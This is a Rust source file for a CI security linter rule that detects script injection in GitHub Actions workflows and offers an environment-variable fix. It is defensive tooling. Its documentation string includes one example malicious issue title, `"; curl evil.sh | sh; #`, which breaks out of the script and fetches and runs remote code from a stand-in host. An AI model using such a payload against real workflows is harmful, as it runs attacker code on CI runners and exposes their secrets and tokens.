//! `expression-injection`: attacker-controlled text expanded into a script.

use std::cell::LazyCell;
use std::sync::LazyLock;

use serde::Deserialize;

use super::{
    Applicability, Confidence, Findings, Fix, Platform, Reference, Rule, RuleDocs, RuleMeta, Severity, StepContext,
    fix, taint,
};
use crate::matrix::{OwaspCicd, Technique};
use crate::model::Text;
use crate::model::contexts::{self, Taint};
use crate::model::expr::{ContextRef, Expression};
use crate::model::github::Step;
use crate::model::shell::{Dialect, Script};
use crate::syntax::span::Span;
use crate::{bundled, data};

pub struct ExpressionInjection;

static META: RuleMeta = RuleMeta {
    id: "expression-injection",
    technique: Technique::EX06,
    severity: Severity::High,
    confidence: Confidence::High,
    platforms: &[Platform::GithubActions],
    docs: RuleDocs {
        summary: "Attacker-controlled text is expanded into a script",
        detects: "A `${{ }}` expression whose value someone other than the maintainers chooses, \
pasted into code: a `run:` script, the `script:` of `actions/github-script`, or an input that \
another action runs as code (a bundled list: `appleboy/ssh-action` `script`, `azure/cli` \
`inlineScript`, `nick-fields/retry` `command`, ...). The value may be read directly (issue, pull \
request, comment, review and discussion text, branch names, commit messages and authors, under \
the triggers that carry them) or through the file: an `env:` variable, a value written to \
`$GITHUB_ENV` or `$GITHUB_OUTPUT` and read back, a job output read through `needs`, a matrix \
value, or an input of `workflow_dispatch`, `workflow_call` or a composite action. Severity \
follows who controls the value and what the run holds: critical for outsider text on \
`pull_request_target`, `issue_comment`, `issues` or `workflow_run`, medium on `pull_request` (no \
secrets for forks), medium for inputs of reusable workflows and actions, low for values only \
collaborators choose (release names, dispatch inputs). Values only compared or tested \
(`== 'x'`, `contains()`) are not reported.",
        why: "GitHub substitutes the expression into the script text before the shell or Node \
runs it. Whoever writes the title or the branch name writes part of the script: a title like \
`\"; curl evil.sh | sh; #` ends the string and runs their command on the runner, with the job's \
token and secrets.",
        attack: "Execution › Modify CI/CD configurations (EX06): the attacker rewrites the \
commands the step runs without touching the repository. From there, Credential Access (CA02) \
reads the job's secrets and `GITHUB_TOKEN`, and on privileged triggers such as \
`pull_request_target` or `issue_comment` that token can write to the repository.",
        example: r#"on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"
"#,
        fixed_example: r#"on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
        run: echo "New issue ${ISSUE_TITLE}"
"#,
        fix: "Pass the value through an environment variable and use the variable in the \
script (`\"$ISSUE_TITLE\"` in a shell, `process.env.ISSUE_TITLE` in `github-script`): the value \
is then data, never code. The quick fix does exactly that. It is marked unsafe because a \
script that relied on the text being pasted in (for example unquoted, to split it into words) \
behaves differently; quote the variable where it is used.",
    },
    references: &[
        Reference::Owasp(OwaspCicd::Sec4),
        Reference::Cwe(94, "Improper Control of Generation of Code ('Code Injection')"),
        Reference::Zizmor("template-injection"),
        Reference::Actionlint("expression"),
        Reference::Poutine("injection"),
        Reference::CodeQl("actions/code-injection/critical"),
        Reference::Link(
            "GitHub: Security hardening, understanding the risk of script injections",
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        ),
    ],
};

/// An action input that runs its value as code.
#[derive(Deserialize)]
struct CodeInput {
    uses: String,
    inputs: Vec<String>,
    language: Language,
    #[serde(default)]
    remote: bool,
}

#[derive(Deserialize, Clone, Copy, PartialEq, Eq)]
#[serde(rename_all = "lowercase")]
enum Language {
    Shell,
    Javascript,
    Powershell,
    Python,
}

#[derive(Deserialize)]
struct CodeInputs {
    action: Vec<CodeInput>,
}

static CODE_INPUTS: LazyLock<CodeInputs> = LazyLock::new(|| data::parse(bundled!("code-inputs.toml")));

impl Rule for ExpressionInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_step(&self, context: &StepContext<'_>, step: &Step, out: &mut Findings) {
        let scope = context.scope();
        // A job or step only some actors can start (`github.actor == 'dependabot[bot]'`,
        // `author_association`) is one an outsider may not reach: one level lower. Its
        // conditions are parsed only for a step that pastes something tainted.
        let gated = LazyCell::new(|| {
            step.condition.as_deref().is_some_and(contexts::checks_actor)
                || match *context {
                    StepContext::Workflow { job, jobs, .. } => contexts::job_checks_actor(job, jobs),
                    StepContext::Action { .. } => false,
                }
        });
        for sink in sinks(step) {
            for expression in &sink.text.expressions {
                for context_ref in expression.contexts.iter().filter(|c| c.reaches_result) {
                    let Some(taint) = scope.taint_of_context(context_ref, expression) else {
                        continue;
                    };
                    let mut text = message(context_ref, &taint, &sink);
                    let mut severity = taint::injection_severity(&taint);
                    if *gated {
                        text.push_str(" (only where the `if:` that checks who acted lets them through)");
                        severity = severity.lowered();
                    }
                    let finding = out.report(context_ref.span, text);
                    finding.with_severity(severity).with_confidence(taint::injection_confidence(&taint));
                    if let Some(fix) = env_var_fix(step, &sink, expression, context_ref) {
                        finding.with_fix(fix);
                    }
                }
            }
        }
    }
}

/// A place where a step's text is run as code.
struct Sink<'a> {
    text: &'a Text,
    language: Language,
    /// The lexed script, for `run:`.
    script: Option<&'a Script>,
    /// What the place is called in messages.
    place: String,
    /// Whether the code runs on the runner, where the step's `env:` reaches it.
    local: bool,
    /// The key holding the code (`run:`, `with:`), before which a fix adds `env:`.
    key: Option<Span>,
}

fn sinks(step: &Step) -> Vec<Sink<'_>> {
    let mut sinks = Vec::new();
    if let Some(run) = &step.run {
        let language = if run.dialect == Dialect::PowerShell { Language::Powershell } else { Language::Shell };
        let place = "the `run:` script".to_owned();
        sinks.push(Sink { text: &run.text, language, script: Some(run), place, local: true, key: step.run_key });
    }
    let Some(uses) = &step.uses else {
        return sinks;
    };
    for action in CODE_INPUTS.action.iter().filter(|action| uses.is_action(&action.uses)) {
        for name in &action.inputs {
            if let Some(text) = step.input_text(name) {
                let place = format!("the `{name}:` input of `{}`, which runs it as code", action.uses);
                let key = step.with_block.as_ref().map(|block| block.key);
                let language = action.language;
                sinks.push(Sink { text, language, script: None, place, local: !action.remote, key });
            }
        }
    }
    sinks
}

fn message(context: &ContextRef, taint: &Taint, sink: &Sink<'_>) -> String {
    let value = if taint.is_direct() {
        format!("`{}` is {}", context.path, taint.what)
    } else {
        format!("`{}` carries {}", context.path, taint.describe_from(&context.path))
    };
    format!("{value}, and is pasted into {}: {} can make it run their own commands", sink.place, taint::who(taint))
}

/// Moves the value into an environment variable of the step, when the expression is just the
/// context and the code runs on the runner in a language that reads environment variables.
fn env_var_fix(step: &Step, sink: &Sink<'_>, expression: &Expression, context: &ContextRef) -> Option<Fix> {
    if expression.source != context.path || sink.text.span.unit != expression.span.unit || !sink.local {
        return None;
    }
    // `${{ env.NAME }}` is already in the environment: read it there.
    let existing = context.path.strip_prefix("env.").filter(|name| !name.contains('.'));
    let name = match existing {
        Some(name) => name.to_owned(),
        None => fix::env_name(&context.path, step)?,
    };
    let offset = sink.text.value_offset(expression.span)?;
    let code = &sink.text.value;
    let reference = match (sink.language, sink.script) {
        (Language::Shell, Some(script)) => fix::shell_env_reference(script, offset, &name)?,
        (Language::Javascript, _) => fix::javascript_env_reference(code, offset, &name)?,
        (Language::Powershell, _) => fix::powershell_env_reference(code, offset, &name)?,
        // A Python script reads the environment only after an import the fix cannot add, and
        // a shell input of another action is not lexed.
        (Language::Python, _) | (Language::Shell, None) => return None,
    };
    // Written as the scalar's quoting needs it; where a plain scalar cannot hold it (a
    // value that would start with `"`), no fix is offered rather than a broken one.
    let replace = fix::replace_in_text(sink.text, expression.span, &reference)?;
    if existing.is_some() {
        return Some(Fix {
            title: format!("Read `{name}` from the environment").into(),
            applicability: Applicability::Unsafe,
            edits: vec![replace],
        });
    }
    let entry = format!("{name}: ${{{{ {} }}}}", expression.source);
    let before = sink.key.unwrap_or(step.first_key);
    let declare = fix::add_to_mapping(step.env.block.as_deref(), "env", before, step.key_column, &entry)?;
    Some(Fix {
        title: format!("Pass `{}` through the environment variable `{name}`", context.path).into(),
        applicability: Applicability::Unsafe,
        edits: vec![declare, replace],
    })
}
